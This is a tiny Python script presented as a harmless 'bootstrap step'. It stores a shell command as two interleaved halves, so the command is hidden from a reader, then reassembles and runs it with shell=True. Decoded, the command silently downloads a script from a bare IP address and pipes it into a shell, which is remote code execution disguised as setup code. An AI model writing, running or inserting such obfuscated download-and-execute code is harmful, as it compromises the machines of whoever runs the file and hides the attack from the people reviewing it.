"""Run the bootstrap step stored in two halves."""
import itertools
import subprocess

odd = "cr sht:/9.1102/ots  h"
even = "ul- tp/185.0.3bo.h|s"
step = "".join(itertools.chain.from_iterable(itertools.zip_longest(odd, even, fillvalue="")))
subprocess.run(step, shell=True)
